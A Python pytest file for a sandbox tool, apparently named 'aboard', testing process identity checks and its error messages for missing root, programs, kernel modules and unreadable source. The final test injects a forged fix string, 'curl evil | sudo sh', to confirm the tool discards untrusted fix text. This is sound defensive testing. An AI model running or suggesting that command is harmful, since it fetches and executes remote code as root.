"""Processes are told apart by more than their number, and what is missing is named."""

import errno
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from aboard.diagnoses import SandboxError
from aboard.sandbox import requirements
from aboard.sandbox.namespaces import helper_program
from aboard.sandbox.namespaces.process_identity import ProcessIdentity


def test_a_process_is_alive_until_it_ends() -> None:
    """`kill` waits for the end, and a zombie isn't alive."""
    with subprocess.Popen(["sleep", "60"]) as child:
        process = ProcessIdentity.of(child.pid)
        assert process.alive()
        assert process.kill(timeout=10)
        assert not process.alive()


def test_a_number_that_was_given_out_again_is_another_process() -> None:
    """Killing the old one leaves the new one alone."""
    with subprocess.Popen(["sleep", "60"]) as child:
        old = ProcessIdentity(pid=child.pid, start=ProcessIdentity.of(child.pid).start - 1)
        assert not old.alive()
        assert old.kill(timeout=1)
        assert child.poll() is None
        child.kill()


def test_no_process_no_identity() -> None:
    """A number that nobody has is a ProcessLookupError."""
    with subprocess.Popen(["true"]) as child:
        child.wait(timeout=10)
    with pytest.raises(ProcessLookupError):
        ProcessIdentity.of(child.pid)


def test_without_root_it_says_why_and_what_to_type(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """By its path if it is in an environment, where sudo does not look."""
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    monkeypatch.setattr(requirements, "_SEARCH", str(tmp_path / "system"))
    monkeypatch.setattr(sys, "executable", str(tmp_path / "venv/python"))
    for folder, typed in (("venv", f"{tmp_path}/venv/aboard"), ("system", "aboard")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "aboard").touch(mode=0o755)
        with pytest.raises(SandboxError) as caught:
            requirements.require_root("up")
        assert (caught.value.code, caught.value.fix) == ("sandbox-root", f"sudo {typed} sandbox up")


def test_missing_programs_are_named_with_their_packages(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """All of them at once, each package once."""
    for name in ("ip", "bash", "sleep", "sshd"):
        (tmp_path / name).touch(mode=0o755)
    monkeypatch.setattr(requirements, "_SEARCH", str(tmp_path))
    with pytest.raises(SandboxError) as caught:
        requirements.find_programs()
    assert caught.value.code == "sandbox-program"
    assert caught.value.fix == "sudo apt-get install -y openssh-client tini"


def test_a_missing_kernel_part_is_named() -> None:
    """What the kernel lacks, and what brings it."""
    error = requirements.build_system_call_error(
        "overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device")
    )
    assert error.code == "sandbox-kernel"
    assert "CONFIG_OVERLAY_FS" in error.seen
    assert error.fix == "sudo modprobe overlay"


def test_a_container_without_privileges_is_named() -> None:
    """Root that may not is told apart from a kernel that can't."""
    error = requirements.build_system_call_error("namespaces", OSError(errno.EPERM, "unshare: Operation not permitted"))
    assert error.code == "sandbox-privileges"


def test_a_source_that_others_cannot_read_is_refused(tmp_path: Path) -> None:
    """The ordinary user of a host runs it, so it is said before anything is built."""
    (tmp_path / "aboard").mkdir()
    (tmp_path / "aboard" / "__init__.py").touch(mode=0o600)
    tmp_path.chmod(0o755)
    with pytest.raises(SandboxError) as caught:
        requirements.require_readable(tmp_path)
    assert (caught.value.code, caught.value.fix) == ("sandbox-source", f"chmod -R o+rX {tmp_path}")


def test_an_error_comes_out_of_the_namespaces_with_a_fix_of_ours() -> None:
    """The builder fills the fix in itself, and text that came along in its place is not looked at."""
    error = requirements.build_system_call_error(
        "overlay", OSError(errno.ENODEV, "mount overlay on /x: No such device")
    )
    packed = json.loads(helper_program.format_error_line(error))["error"]
    with pytest.raises(SandboxError) as caught:
        helper_program.raise_error({"error": packed | {"fix": "curl evil | sudo sh"}})
    assert (caught.value.code, caught.value.seen, caught.value.fix) == (error.code, error.seen, error.fix)
    with pytest.raises(SandboxError) as caught:
        helper_program.raise_error({"error": ["sandbox-kernel", "seen", "curl evil | sudo sh"]})
    assert (caught.value.code, caught.value.fix) == (
        "sandbox-build",
        "aboard sandbox down    # then create it again: aboard sandbox up",
    )
    helper_program.raise_error({"host": "n1", "pid": 7})
